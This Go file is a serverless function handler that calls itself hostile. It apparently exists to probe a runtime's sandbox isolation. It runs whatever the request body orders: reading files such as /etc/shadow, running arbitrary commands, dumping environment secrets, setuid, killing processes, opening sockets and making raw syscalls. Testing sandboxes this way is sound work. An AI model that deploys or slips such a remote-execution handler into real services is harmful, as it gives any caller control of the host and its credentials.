// Package handler is a hostile function. The body says what to do: {"op":
// "read", "args": ["/etc/shadow"]}.
package handler

import (
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"github.com/open-runtimes/types-for-go/v4/openruntimes"
)

var buffer [4096]byte

// Main does what the body says.
func Main(c openruntimes.Context) openruntimes.Response {
	var order struct {
		Op   string
		Args []any
	}
	if err := json.Unmarshal([]byte(c.Req.BodyText()), &order); err != nil {
		return c.Res.Text(err.Error(), c.Res.WithStatusCode(400))
	}
	got, err := do(order.Op, order.Args)
	if err != nil {
		var number syscall.Errno
		errors.As(err, &number)
		return c.Res.Text(fmt.Sprintf("failed %s %v", names[number], err))
	}
	return c.Res.Text("did " + got)
}

var names = map[syscall.Errno]string{
	syscall.EPERM: "EPERM", syscall.EACCES: "EACCES", syscall.ENOSYS: "ENOSYS", syscall.ESRCH: "ESRCH", syscall.ENOENT: "ENOENT",
	syscall.EROFS: "EROFS", syscall.EXDEV: "EXDEV", syscall.ECONNREFUSED: "ECONNREFUSED",
}

func do(op string, args []any) (string, error) {
	text := func(i int) string { return args[i].(string) }
	number := func(i int) int { return int(args[i].(float64)) }
	dial := func(network, address string) error {
		conn, err := net.DialTimeout(network, address, 2*time.Second)
		if err == nil {
			_, err = conn.Write([]byte("x"))
			conn.Close()
		}
		return err
	}
	switch op {
	case "true":
		return "true", nil
	case "read":
		got, err := os.ReadFile(text(0))
		return string(got[:min(200, len(got))]), err
	case "list":
		entries, err := os.ReadDir(text(0))
		return fmt.Sprint(entries), err
	case "write":
		return "", os.WriteFile(text(0), []byte(text(1)), 0o600)
	case "tcp", "udp":
		return "", dial(op, fmt.Sprintf("%s:%d", text(0), number(1)))
	case "unix":
		return "", dial("unix", text(0))
	case "kill":
		return "", syscall.Kill(number(0), syscall.Signal(number(1)))
	case "run":
		got, err := exec.Command(text(0), texts(args[1:])...).CombinedOutput()
		return string(got), err
	case "chmod":
		return "", syscall.Chmod(text(0), uint32(number(1)))
	case "utime":
		return "", os.Chtimes(text(0), time.Unix(0, 0), time.Unix(0, 0))
	case "setuid":
		return "", syscall.Setuid(number(0))
	case "symlink":
		return "", os.Symlink(text(0), text(1))
	case "link":
		return "", os.Link(text(0), text(1))
	case "environ":
		return strings.Join(os.Environ(), " "), nil
	case "call":
		return call(args)
	}
	return "", fmt.Errorf("unknown operation %s", op)
}

func texts(args []any) (all []string) {
	for _, a := range args {
		all = append(all, a.(string))
	}
	return all
}

// call makes a system call. Text is a pointer to it, "@" one to a buffer.
func call(args []any) (string, error) {
	var a [7]uintptr
	var keep []*byte
	for i, arg := range args {
		switch v := arg.(type) {
		case float64:
			a[i] = uintptr(int64(v))
		case string:
			p := &buffer[0]
			if v != "@" {
				p, _ = syscall.BytePtrFromString(v)
			}
			keep = append(keep, p)
			a[i] = uintptr(unsafe.Pointer(p))
		}
	}
	r, _, errno := syscall.Syscall6(a[0], a[1], a[2], a[3], a[4], a[5], a[6])
	_ = keep
	if errno != 0 {
		return "", errno
	}
	return fmt.Sprint(r), nil
}
